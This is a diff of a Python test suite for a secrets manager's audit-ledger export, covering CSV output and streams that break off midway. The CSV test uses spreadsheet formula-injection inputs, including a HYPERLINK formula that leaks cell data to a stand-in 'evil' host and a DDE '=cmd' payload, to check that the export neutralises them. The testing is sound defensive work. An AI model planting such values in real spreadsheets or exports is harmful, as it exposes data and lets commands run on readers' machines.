@@ -6,8 +6,9 @@ import asyncio
 import csv
 import io
 import json
+import socket
 import stat
-from collections.abc import AsyncIterator
+from collections.abc import Awaitable, Callable
 from pathlib import Path
 from typing import Any
 
@@ -17,7 +18,8 @@ import pytest
 from secrethub.audit.event import Entry, Record
 from secrethub.audit.verification import LedgerVerifier
 from secrethub.engines.system import ledger_export
-from tests.gateway.behind import entries, sql, until
+from secrethub.storage.ledger_read import _PAGE
+from tests.gateway.behind import entries, fill_ledger, sql, until
 from tests.gateway.conftest import Node, native
 from tests.gateway.kv import ok, put, status
 from tests.gateway.test_cli_tokens import Cli, cli  # noqa: F401 - a fixture
@@ -44,17 +46,15 @@ async def exported(node: Node, query: str = "", **how: Any) -> list[dict[str, An
     return [json.loads(line) for line in answer.text.splitlines()]
 
 
-async def test_a_whole_export_verifies(node: Node, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_a_whole_export_verifies(node: Node) -> None:
     """An export without criteria holds every entry as of one instant and verifies elsewhere, page by page."""
-    monkeypatch.setattr("secrethub.storage.ledger_read._PAGE", 10)
     await put(node, "a", {"n": 1})
 
     async def others() -> None:
         while True:
             await node.call("GET", "secret/data/a")
 
-    for _ in range(30):
-        await node.call("GET", "secret/data/a")
+    await fill_ledger(node, _PAGE)
     writers = [asyncio.create_task(others()) for _ in range(3)]
     try:
         lines = await exported(node)
@@ -70,7 +70,7 @@ async def test_a_whole_export_verifies(node: Node, monkeypatch: pytest.MonkeyPat
         verifier.feed(record)
     report = verifier.finish()
     assert report.ok, report
-    assert report.entries > 30
+    assert report.entries > _PAGE
 
 
 async def test_an_edited_line_is_found(node: Node) -> None:
@@ -98,19 +98,19 @@ async def test_a_selection_says_so(node: Node) -> None:
     assert lines[-1] == {"type": "end", "entries": 2}
 
 
-async def test_csv(node: Node, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_csv(node: Node) -> None:
     """As CSV each entry is a row in the order of time; names that are formulas are made harmless."""
-    monkeypatch.setattr(ledger_export, "_PAGE", 7)
     evil = '=HYPERLINK("http://evil/?"&A1,"x")'
     made = await node.call("POST", "auth/token/create", json={"display_name": evil, "policies": ["default"]})
     token = made.json()["auth"]["client_token"]
     for path in ("=cmd|'!A0'", "@x", "+1", "-1", 'secret/data/a","b'):
         assert await status(node, "GET", path, token=token) == 403
+    await fill_ledger(node, ledger_export._PAGE)
     answer = await node.call("GET", "sys/audit/export?format=csv")
     assert answer.headers["content-type"] == "text/csv; charset=utf-8"
     head, *rows = csv.reader(io.StringIO(answer.text, newline=""))
     assert head[0] == "time"
-    assert len({(row[1], row[2]) for row in rows}) == len(rows) > 15
+    assert len({(row[1], row[2]) for row in rows}) == len(rows) > ledger_export._PAGE
     assert [row[0] for row in rows] == sorted(row[0] for row in rows)
     assert not [cell for row in rows for cell in row if cell[:1] in "=+-@" and cell]
     assert {row[-1] for row in rows} == {"ok", "unsigned"}
@@ -137,126 +137,133 @@ async def test_who_may_export(node: Node) -> None:
     assert wrapped.status_code == 400
 
 
-async def _broken_off(node: Node, token: str, meanwhile: Any) -> int:
-    """Begin an export, let something happen after its first bytes; return how many bytes came."""
+SMALL_WINDOW = [(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)]
+"""So that the server waits for whoever reads slowly."""
+
+
+async def _streamed(node: Node, token: str, meanwhile: Callable[[], Awaitable[object]]) -> bytes:
+    """Begin an export and let something happen after its first bytes.
+
+    Returns:
+        All of it.
+
+    Raises:
+        httpx2.RemoteProtocolError: it broke off.
+    """
     assert node.settings.http is not None
-    size = 0
+    found: list[bytes] = []
     url = f"http://127.0.0.1:{node.settings.http.port}/v1/sys/audit/export"
     async with (
-        httpx2.AsyncClient(timeout=20) as client,
+        httpx2.AsyncClient(
+            timeout=20, transport=httpx2.AsyncHTTPTransport(socket_options=SMALL_WINDOW)
+        ) as client,
         client.stream("GET", url, headers={"X-Vault-Token": token}) as answer,
     ):
         assert answer.status_code == 200
-        try:
-            async for chunk in answer.aiter_bytes():
-                if not size:
-                    await meanwhile()
-                size += len(chunk)
-        except httpx2.RemoteProtocolError:
-            return size
-    raise AssertionError("the answer came to its end")
+        async for chunk in answer.aiter_bytes():
+            if not found:
+                await meanwhile()
+            found.append(chunk)
+    return b"".join(found)
+
+
+async def _broken_off(node: Node, token: str, meanwhile: Callable[[], Awaitable[object]]) -> None:
+    """Check that an export breaks off because of what happens after its first bytes."""
+    happened = []
+
+    async def noted() -> None:
+        await meanwhile()
+        happened.append(True)
+
+    with pytest.raises(httpx2.RemoteProtocolError):
+        await _streamed(node, token, noted)
+    assert happened
 
 
 @pytest.fixture
-async def slow(node: Node, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[asyncio.Event]:
-    """An event; exports have small pages and wait for it after the first one."""
-    go_on = asyncio.Event()
-    real = ledger_export.pages_of
-
-    async def paused(connection: Any) -> AsyncIterator[Any]:
-        async for page in real(connection):
-            yield page
-            await go_on.wait()
-
-    monkeypatch.setattr("secrethub.storage.ledger_read._PAGE", 5)
-    monkeypatch.setattr(ledger_export, "pages_of", paused)
+async def large(node: Node) -> Node:
+    """A node with more in its ledger than goes into the buffers between it and a client: 8 MB in one page."""
     await put(node, "a", {"n": 1})
-    yield go_on
-    go_on.set()
+    await fill_ledger(node, _PAGE + 10, detail='{"long": "' + "x" * 4000 + '"}')
+    return node
 
 
-async def test_a_token_that_ends_meanwhile(node: Node, slow: asyncio.Event) -> None:
+async def test_a_token_that_ends_meanwhile(large: Node) -> None:
     """When the caller's token is revoked the rest is not sent, and the end of the answer is missing."""
-    token = await node.token("auditor", native("sys/audit/export", capabilities=("read", "sudo")))
+    token = await large.token("auditor", native("sys/audit/export", capabilities=("read", "sudo")))
 
     async def revoke() -> None:
-        await ok(node, "POST", "auth/token/revoke", {"token": token})
-        slow.set()
+        await ok(large, "POST", "auth/token/revoke", {"token": token})
 
-    assert await _broken_off(node, token, revoke) > 0
+    await _broken_off(large, token, revoke)
 
 
-async def test_a_policy_that_changes_meanwhile(node: Node, slow: asyncio.Event) -> None:
+async def test_a_policy_that_changes_meanwhile(large: Node) -> None:
     """When the caller's policy forbids it from now on the rest is not sent."""
-    token = await node.token("auditor", native("sys/audit/export", capabilities=("read", "sudo")))
+    token = await large.token("auditor", native("sys/audit/export", capabilities=("read", "sudo")))
 
     async def forbid() -> None:
-        await ok(node, "PUT", "sys/policies/acl/auditor", {"policy": native("secrets/x")})
-        slow.set()
+        await ok(large, "PUT", "sys/policies/acl/auditor", {"policy": native("secrets/x")})
 
-    assert await _broken_off(node, token, forbid) > 0
+    await _broken_off(large, token, forbid)
 
 
-async def test_the_cluster_is_sealed_meanwhile(node: Node, slow: asyncio.Event) -> None:
+async def test_the_cluster_is_sealed_meanwhile(large: Node) -> None:
     """When the cluster is sealed the rest is not sent."""
 
     async def seal() -> None:
-        await ok(node, "PUT", "sys/seal")
-        slow.set()
+        await ok(large, "PUT", "sys/seal")
 
-    assert await _broken_off(node, node.root, seal) > 0
+    await _broken_off(large, large.root, seal)
 
 
-async def test_the_database_goes_away_meanwhile(node: Node, slow: asyncio.Event) -> None:
+async def test_the_database_goes_away_meanwhile(large: Node) -> None:
     """When the database ends the connection the answer breaks off instead of ending early."""
 
     async def killed() -> list[Any]:
         return await sql(
-            node.settings.database_url,
+            large.settings.database_url,
             """SELECT pg_terminate_backend(pid) FROM pg_stat_activity
                WHERE datname = current_database() AND state = 'idle in transaction'""",
         )
 
     async def kill() -> None:
         await until(killed)
-        slow.set()
 
-    assert await _broken_off(node, node.root, kill) > 0
-    assert await status(node, "GET", "secret/data/a") == 200
+    await _broken_off(large, large.root, kill)
+    assert await status(large, "GET", "secret/data/a") == 200
 
 
-async def test_what_others_change_does_not_matter(node: Node, slow: asyncio.Event) -> None:
+async def test_what_others_change_does_not_matter(large: Node) -> None:
     """Other people's tokens may end while an export goes on."""
-    other = await node.token("other", native("secrets/x"))
+    other = await large.token("other", native("secrets/x"))
 
     async def meanwhile() -> None:
-        await ok(node, "POST", "auth/token/revoke", {"token": other})
-        slow.set()
+        await ok(large, "POST", "auth/token/revoke", {"token": other})
 
-    asyncio.get_running_loop().call_later(0.3, lambda: asyncio.ensure_future(meanwhile()))
-    lines = await exported(node)
-    assert lines[-1]["type"] == "end"
+    last = (await _streamed(large, large.root, meanwhile)).splitlines()[-1]
+    assert json.loads(last)["type"] == "end"
 
 
-async def test_a_client_that_goes_away(node: Node, slow: asyncio.Event) -> None:
+async def test_a_client_that_goes_away(large: Node) -> None:
     """When the client goes away its export ends and lets go of its connection; too many are refused."""
-    assert node.settings.http is not None
-    url = f"http://127.0.0.1:{node.settings.http.port}/v1/sys/audit/export"
-    async with httpx2.AsyncClient(timeout=20) as client:
+    assert large.settings.http is not None
+    url = f"http://127.0.0.1:{large.settings.http.port}/v1/sys/audit/export"
+    transport = httpx2.AsyncHTTPTransport(socket_options=SMALL_WINDOW)
+    async with httpx2.AsyncClient(timeout=20, transport=transport) as client:
         for _ in range(ledger_export._MOST_AT_ONCE):
-            request = client.build_request("GET", url, headers={"X-Vault-Token": node.root})
+            request = client.build_request("GET", url, headers={"X-Vault-Token": large.root})
             await client.send(request, stream=True)
-        refused = await node.call("GET", "sys/audit/export")
+        refused = await large.call("GET", "sys/audit/export")
         assert refused.status_code == 429
         assert refused.headers["retry-after"] == "10"
-    slow.set()
 
     async def free() -> bool:
-        return await status(node, "GET", "sys/audit/export") == 200
+        return await status(large, "GET", "sys/audit/export") == 200
 
     await until(free)
     idle = await sql(
-        node.settings.database_url,
+        large.settings.database_url,
         """SELECT count(*) AS n FROM pg_stat_activity
            WHERE datname = current_database() AND state = 'idle in transaction'""",
     )
